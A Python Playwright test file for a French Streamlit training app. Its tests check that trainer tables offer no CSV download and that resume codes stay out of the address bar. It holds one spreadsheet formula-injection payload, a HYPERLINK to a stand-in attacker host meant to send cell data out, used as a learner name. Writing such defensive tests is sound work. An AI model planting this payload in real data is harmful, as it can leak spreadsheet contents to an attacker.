"""Attacks that happen in the browser: a learner's name written as a spreadsheet formula
downloaded through Streamlit's own table button, and a resume code left in the address bar
(seen on a projected screen, kept by a shared computer, sent to proxies)."""

from __future__ import annotations

import re

from playwright.sync_api import Browser, Page, expect

from tests.e2e.conftest import (
    DESKTOP,
    TRAINER_PASSWORD,
    follow_resume_link,
    new_context,
    open_app_page,
    wait_for_rerun,
    wait_until_loaded,
)
from tools.streamlit_server import Server

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1;"Voir")'


def _sign_up(page: Page, server: Server, name: str) -> str:
    """A record started on « Mon parcours »; the code the welcome message shows."""
    open_app_page(page, f"{server.url}/mon-parcours")
    page.get_by_label("Votre nom, tel qu'il figurera sur l'attestation").fill(name)
    page.get_by_role("button", name="Commencer mon parcours").click()
    wait_for_rerun(page)
    welcome = page.get_by_text("Voici votre code personnel")
    expect(welcome).to_be_visible()
    found = re.search(r"[0-9A-Z]{4}-[0-9A-Z]{4}", welcome.inner_text())
    assert found, welcome.inner_text()
    assert "reprise" not in page.url
    return found.group(0)


def test_the_trainer_s_tables_offer_no_unneutralised_download(
    page: Page, fresh_server: Server
) -> None:
    """Streamlit's « Download as CSV » would write =HYPERLINK(…) as a live formula: the
    trainer's tables have the grid's other tools (search, full screen) but no download."""
    _sign_up(page, fresh_server, FORMULA_NAME)
    page.context.clear_cookies()
    open_app_page(page, f"{fresh_server.url}/espace-formateur")
    page.get_by_label("Mot de passe formateur").fill(TRAINER_PASSWORD)
    page.get_by_role("button", name="Entrer").click()
    wait_for_rerun(page)
    page.get_by_role("tab", name="Résultats du groupe").click()
    wait_until_loaded(page)
    grid = page.get_by_test_id("stDataFrame").first
    expect(grid).to_be_visible()
    grid.hover()
    toolbar = page.get_by_test_id("stElementToolbarButton")
    expect(toolbar.first).to_be_visible()
    names = [toolbar.nth(i).get_attribute("aria-label") or "" for i in range(toolbar.count())]
    assert names and not [n for n in names if "download" in n.lower()], names


def test_a_resume_link_leaves_the_address_bar_and_waits_for_c_est_moi(
    page: Page, browser: Browser, fresh_server: Server
) -> None:
    code = _sign_up(page, fresh_server, "Zoé Lien")
    shared = new_context(browser, DESKTOP)
    try:
        other = shared.new_page()
        open_app_page(other, f"{fresh_server.url}/mon-parcours?reprise={code}")
        expect(other.get_by_text("Vous reprenez le parcours de Zoé Lien")).to_be_visible()
        assert code not in other.url and "reprise" not in other.url
        expect(other.get_by_text("Parcours de Zoé Lien", exact=True)).to_have_count(0)
        expect(other.get_by_role("button", name="Commencer mon parcours")).to_be_visible()
        other.get_by_role("button", name="C'est moi").click()
        wait_for_rerun(other)
        expect(other.get_by_text("Parcours de Zoé Lien", exact=True).first).to_be_visible()
        assert code not in other.url
        expect(other.get_by_text(code)).to_have_count(0)  # shown on demand only
        other.get_by_role("switch", name="Afficher mon code et mon lien de reprise").press("Space")
        wait_until_loaded(other)
        expect(other.get_by_text(code).first).to_be_visible()
        other.get_by_role("button", name="Quitter mon parcours sur cet appareil").click()
        wait_for_rerun(other)
        expect(other.get_by_role("button", name="Commencer mon parcours")).to_be_visible()
        assert code not in other.url
    finally:
        shared.close()
    follow_resume_link(page, f"{fresh_server.url}/mon-parcours?reprise={code}")
    expect(page.get_by_text("Parcours de Zoé Lien", exact=True).first).to_be_visible()
